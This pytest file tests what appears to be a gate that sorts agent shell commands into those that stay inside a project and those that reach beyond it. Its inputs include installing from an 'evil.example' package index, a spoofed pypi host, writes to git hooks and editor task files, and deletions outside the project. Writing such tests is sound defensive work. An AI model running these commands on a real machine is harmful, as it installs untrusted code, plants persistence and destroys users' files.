"""What is known to need more than its project asks, and what does not goes on."""

from __future__ import annotations

from pathlib import Path

import pytest

from desktop.gate.beyond import beyond, deleted, is_near, is_protected, stays_in_scratch
from desktop.gate.commands import Commands
from desktop.gate.request import Request
from desktop.gate.shell.classify import Classifier
from desktop.gate.shell.tables import Tables
from desktop.paths import resources

ROOT = Path("/home/me/project")
COMMANDS = Commands(Classifier(Tables(resources() / "commands"), remember=False))


def request_for(line: str) -> Request:
    verdict = COMMANDS.verdict(line, "bash", str(ROOT), str(ROOT))
    return COMMANDS.request(verdict, line, ROOT, "Bash", "1", project=ROOT)


@pytest.mark.parametrize(
    "line",
    [
        "npm ci",
        "npm test",
        "pip install requests",
        "cargo fetch",
        "go mod download",
        "uv sync && uv run pytest",
        "poetry install",
        "git add . && git commit -m x",
        "git checkout -b topic",
        "docker ps",
        "make",
        "curl -o out.json http://localhost:3000/x",
        "echo x > .gitignore",
    ],
)
def test_a_day_of_work_stays_in_the_project(line: str) -> None:
    """Building, testing, committing and installing from a package index need nothing else."""
    assert beyond(request_for(line)) == ""


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("docker compose up -d", "what docker does lies beyond any folder"),
        ("sudo -u x true; apt install jq", "what apt does lies beyond any folder"),
        ("npm test; pkill node", "what pkill does lies beyond any folder"),
        ("git pull", "git talks to another computer"),
        ("gh pr create --title x", "gh talks to another computer"),
        ("pip install --index-url http://evil.example/simple x", "evil.example is no package index"),
        ("wget -O x https://github.com/a", "github.com is no package index"),
        ("git config user.name x", "git config changes what git obeys"),
        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit rules what other programs run"),
        ("echo x >> sub/.git/config", "sub/.git/config rules what other programs run"),
        ("cd sub && touch ../.vscode/tasks.json", "sub/../.vscode/tasks.json rules what other programs run"),
    ],
)
def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
    """Services, other hosts and git's own orders are told before the command fails."""
    assert beyond(request_for(line)) == reason


@pytest.mark.parametrize(
    ("host", "near"),
    [
        ("localhost", True),
        ("127.0.0.1", True),
        ("[::1]", True),
        ("pypi.org", True),
        ("cdn.pypi.org.evil.example", False),
        ("static.crates.io", True),
        ("notcrates.io", False),
        ("10.0.0.1", False),
        ("", False),
    ],
)
def test_near_are_this_computer_and_package_indexes(host: str, near: bool) -> None:
    """Whole names, and what lies below those with a dot in front."""
    assert is_near(host) is near


@pytest.mark.parametrize(
    ("line", "paths"),
    [
        ("rm a b/c", ("/home/me/project/a", "/home/me/project/b/c")),
        ("rm -rf node_modules && npm ci", ("/home/me/project/node_modules",)),
        ("rm -rf *.log", ("/home/me/project/*.log",)),
        ("rm -rf $X", None),
        ("rm -rf ../x", None),
        ("rm -rf .", None),
        ("git branch -D x", None),
        ("kill 1", None),
    ],
)
def test_what_a_line_deletes_is_told_or_not_at_all(line: str, paths: tuple[str, ...] | None) -> None:
    """Paths in the project; None where one lies elsewhere, is not told, or is no file."""
    assert deleted(request_for(line)) == paths


@pytest.mark.parametrize(
    ("path", "protected"),
    [
        (".git/config", True),
        (".git/hooks/pre-push", True),
        (".git", True),
        (".envrc", True),
        (".vscode/tasks.json", True),
        (".idea/x/y", True),
        (".vscode/other.json", False),
        (".git/index", False),
        (".github/x", False),
        ("src/a.py", False),
    ],
)
def test_settings_and_hooks_are_protected(path: str, protected: bool) -> None:
    """What git, agents and editors obey; what a commit writes is not among it."""
    assert is_protected(path) is protected


def test_hosts_of_the_users_are_near() -> None:
    """A name by itself, and with a dot in front all below it; nothing beside them."""
    more = ["files.example", ".example.org"]
    for host in ("files.example", "a.b.example.org", "pypi.org"):
        assert beyond(request_for(f"wget -O x https://{host}/a"), more) == ""
    for host in ("a.files.example", "example.org", "github.com"):
        assert beyond(request_for(f"wget -O x https://{host}/a"), more) == f"{host} is no package index"


FREE = "/tmp/steward-test-that-nobody-makes"


@pytest.mark.parametrize(
    ("line", "stays"),
    [
        (f"echo x > {FREE}", True),
        (f"go build -o {FREE}/a . && {FREE}/a run > out.txt", True),
        (f"mkdir -p {FREE} && echo x > {FREE}/a && rm -rf {FREE}", True),
        (f"echo x > {FREE} && echo x > ~/notes", False),
        (f"echo x > {FREE}/../other/x && echo y > /etc/x", False),
        (f"cp a {FREE} && cp a ../b", False),
        (f"echo x > {FREE}; rm -rf /opt/x", False),
        ("echo x > /etc/x", False),
        ("echo x > out.txt", False),
    ],
)
def test_what_stays_in_tmp_is_known(line: str, stays: bool) -> None:
    """Only where every change beyond the project lies in a place of the project's own."""
    assert stays_in_scratch(request_for(line)) is stays


def test_its_own_in_tmp_needs_no_copies() -> None:
    """What a project made there itself is not kept before it is deleted; what lies in the project is."""
    assert deleted(request_for(f"rm -rf {FREE}")) == ()
    assert deleted(request_for(f"rm -rf {FREE} src")) == (str(ROOT / "src"),)
    for place in ("/opt/x", "~/x"):
        assert deleted(request_for(f"rm -rf {FREE} {place}")) is None
